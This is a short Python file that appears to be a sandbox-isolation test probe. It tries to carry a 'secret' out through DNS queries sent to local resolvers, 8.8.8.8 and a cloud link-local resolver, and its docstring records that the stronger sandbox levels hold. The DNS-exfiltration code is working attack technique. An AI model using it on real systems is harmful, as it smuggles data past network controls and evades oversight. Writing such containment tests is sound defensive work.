"""Carries secrets out in the names that it asks for, of the system's resolver and of name servers by address.

kind: reach out
says: a network connection
strong: holds
partial: holds
none: not run: it would ask the name servers of this network
"""

import contextlib
import socket

QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"


def attack():
    for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "169.254.169.253"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
            there.settimeout(0.2)
            there.sendto(QUERY, (server, 53))
            answer = there.recv(512)
            if answer[3] & 15 == 0 and answer[6:8] != b"\0\0":
                print("BREACH:", server, "answers for example.com:", answer)
    socket.getaddrinfo("secret.example.com", 80)
